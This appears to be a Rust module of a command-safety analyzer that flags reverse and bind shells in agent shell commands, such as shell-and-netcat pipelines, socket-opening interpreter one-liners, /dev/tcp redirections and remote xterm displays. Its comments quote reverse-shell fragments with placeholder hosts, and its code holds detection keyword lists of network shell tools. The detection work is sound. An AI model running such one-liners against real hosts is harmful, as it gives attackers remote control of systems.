//! Reverse and bind shells beyond `nc -e` and `/dev/tcp` on a shell: a shell (or interpreter)
//! reading code from a pipeline that a network client feeds (`nc x 1 | sh`,
//! `telnet x 1 | sh | telnet x 2`), a shell whose output a network client sends
//! (`sh -i 2>&1 | nc x 1 > /tmp/f`, `… | openssl s_client -connect x:1`), inline interpreter code
//! that opens a socket and runs a shell or duplicates descriptors (`php -r '…fsockopen…exec…'`,
//! `python -c '…socket…dup2…'`, gawk `/inet/tcp`), `xterm -display HOST:0`,
//! `zmodload zsh/net/tcp`, and interpreters with `/dev/tcp` redirections. Reported for every
//! profile: a shell wired to the network is never what an agent's task needs.

use tree_sitter::Node;

use crate::commands::code::is_shell;
use crate::commands::producers::command_words;
use crate::commands::wrappers::unwrap;
use crate::rules::RuleId;
use crate::syntax::descendants;
use crate::walk::{Analyzer, Call, Cx, Stdin};
use crate::word::Word;

pub(super) fn check(a: &mut Analyzer, cx: Cx<'_, '_>, base: &str, w: &[Word<'_>], call: &Call<'_>) {
    let args = &w[1..];
    if interpreter(base) {
        if network_code(base, args) {
            a.report(
                RuleId::ReverseShell,
                call.span.clone(),
                format!("`{base}` code opens a network socket and runs a shell or program over it"),
            );
        }
        if redirect_to_network(cx, call) {
            a.report(
                RuleId::ReverseShell,
                call.span.clone(),
                format!("`{base}` with its input or output on a network socket (`/dev/tcp`)"),
            );
        }
    }
    let what = match base {
        "xterm" | "uxterm" | "xterm.real" if remote_display(args) => {
            Some("`xterm -display HOST:N` opens a shell on a remote X display")
        }
        "zmodload"
            if args
                .iter()
                .any(|x| matches!(x.lit(), Some("zsh/net/tcp" | "zsh/net/socket"))) =>
        {
            Some("`zmodload zsh/net/tcp` loads zsh's sockets (a reverse shell's first step)")
        }
        "ztcp" | "zsocket" => Some("zsh socket commands"),
        _ => None,
    };
    if let Some(why) = what {
        a.report(RuleId::ReverseShell, call.span.clone(), why);
    }
    let wired = match call.stdin {
        Stdin::Pipe { .. } if reads_code(base, args) => upstream(a, cx, call, Side::Client),
        Stdin::Pipe { .. } if is_client(base, args) => upstream(a, cx, call, Side::Shell),
        _ => false,
    };
    if wired {
        a.report(
            RuleId::ReverseShell,
            call.span.clone(),
            "a shell and a network client in one pipeline (a reverse or bind shell)",
        );
    }
}

/// What to look for in earlier pipeline stages.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Side {
    Client,
    Shell,
}

fn interpreter(base: &str) -> bool {
    let versioned = |p: &str| {
        base.strip_prefix(p)
            .is_some_and(|v| v.chars().all(|c| c.is_ascii_digit() || c == '.'))
    };
    ["python", "pypy", "perl", "ruby", "php", "lua"]
        .iter()
        .any(|p| versioned(p))
        || matches!(
            base,
            "node"
                | "nodejs"
                | "bun"
                | "deno"
                | "luajit"
                | "tclsh"
                | "wish"
                | "jrunscript"
                | "awk"
                | "gawk"
                | "mawk"
                | "nawk"
                | "groovy"
                | "jshell"
                | "Rscript"
                | "pwsh"
        )
}

/// Inline code that opens a socket and runs a shell, spawns a program or rewires descriptors.
fn network_code(base: &str, args: &[Word<'_>]) -> bool {
    // Only words that look like code: a script's file name (`test_socket.py`) is not.
    let code: String = args
        .iter()
        .filter_map(Word::lit)
        .filter(|t| t.contains(['(', ';', '{', '"']))
        .collect::<Vec<_>>()
        .join(" ");
    let lower = code.to_ascii_lowercase();
    let socket = [
        "socket",
        "fsockopen",
        "tcpsocket",
        "net.connect",
        "net.socket",
        "createconnection",
        "/inet/tcp",
        "/inet/udp",
        "/inet4/",
        "/inet6/",
        "io::socket",
        "stream_socket_client",
        "socket.tcp",
        "tcpclient",
        "new-object net.sockets",
        "java.net.socket",
    ];
    let runs = [
        "exec",
        "system",
        "spawn",
        "popen",
        "subprocess",
        "dup2",
        "pty",
        "/bin/sh",
        "/bin/bash",
        "sh -i",
        "bash -i",
        "child_process",
        "proc_open",
        "passthru",
        "shell_exec",
        "os.execute",
        "getline",
        "|&",
        "invoke-expression",
        "iex",
        "runtime.getruntime",
    ];
    let awk = matches!(base, "awk" | "gawk" | "mawk" | "nawk");
    socket.iter().any(|s| lower.contains(s))
        && (runs.iter().any(|r| lower.contains(r)) || (awk && lower.contains("/inet")))
}

fn redirect_to_network(cx: Cx<'_, '_>, call: &Call<'_>) -> bool {
    call.redirects.iter().any(|r| network_redirect(cx, *r))
}

fn network_redirect(cx: Cx<'_, '_>, redirect: Node<'_>) -> bool {
    let mut cursor = redirect.walk();
    let destinations: Vec<Node<'_>> = redirect
        .children_by_field_name("destination", &mut cursor)
        .collect();
    destinations.into_iter().any(|d| {
        let text = Word::read(cx.src, d).text;
        text.starts_with("/dev/tcp/") || text.starts_with("/dev/udp/")
    })
}

/// `xterm -display HOST:N` with a host other than this machine.
fn remote_display(args: &[Word<'_>]) -> bool {
    args.windows(2).any(|p| {
        matches!(p[0].lit(), Some("-display" | "-d" | "--display"))
            && p[1]
                .text
                .split_once(':')
                .is_some_and(|(host, _)| !matches!(host, "" | "localhost" | "127.0.0.1" | "unix"))
    })
}

/// A shell or interpreter that reads its program from standard input (no script, no `-c`),
/// or an interactive shell (`sh -i`).
fn reads_code(base: &str, args: &[Word<'_>]) -> bool {
    let flags: Vec<&str> = args
        .iter()
        .filter_map(Word::lit)
        .take_while(|t| t.starts_with(['-', '+']))
        .collect();
    let cluster = |c: char| {
        flags
            .iter()
            .any(|t| t.starts_with('-') && !t.starts_with("--") && t.contains(c))
    };
    let operands = args.len() > flags.len();
    if is_shell(base) {
        return cluster('i') || cluster('s') || (!cluster('c') && !operands);
    }
    interpreter(base) && !operands && !cluster('c') && !cluster('e') && !cluster('r')
}

/// A network client: `nc`, `ncat`, `telnet`, `socat`, `openssl s_client`, ….
fn is_client(base: &str, args: &[Word<'_>]) -> bool {
    match base {
        "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd" | "telnet" | "socat"
        | "cryptcat" | "sbd" | "pwncat" | "websocat" | "gnutls-cli" => true,
        "openssl" => args
            .first()
            .and_then(Word::lit)
            .is_some_and(|t| matches!(t, "s_client" | "s_server")),
        _ => false,
    }
}

/// Whether the stage `call` reads from is a network client (`side` = client) or a shell
/// reading code from its input (`side` = shell). Only the adjacent stage is looked at: every
/// reverse shell pipes the two straight into each other, and looking further back would cost
/// time quadratic in a long pipeline's length (`x | sh | sh | …`).
fn upstream(a: &mut Analyzer, cx: Cx<'_, '_>, call: &Call<'_>, side: Side) -> bool {
    let Stdin::Pipe { from, .. } = call.stdin else {
        return false;
    };
    stage_is(a, cx, from, side)
}

fn stage_is(a: &mut Analyzer, cx: Cx<'_, '_>, stage: Node<'_>, side: Side) -> bool {
    let span = cx.src.orig(stage.byte_range());
    let mut within = true;
    let nodes: Vec<Node<'_>> = descendants(stage)
        .take_while(|_| {
            within = within && a.budget.charge(1, span.clone());
            within
        })
        .filter(|n| matches!(n.kind(), "command" | "file_redirect"))
        .collect();
    nodes.into_iter().any(|node| {
        if node.kind() == "file_redirect" {
            return side == Side::Client && network_redirect(cx, node);
        }
        let words = command_words(cx, node);
        let Some((base, args)) = unwrap(&words) else {
            return false;
        };
        match side {
            Side::Client => is_client(base, args),
            Side::Shell => reads_code(base, args),
        }
    })
}
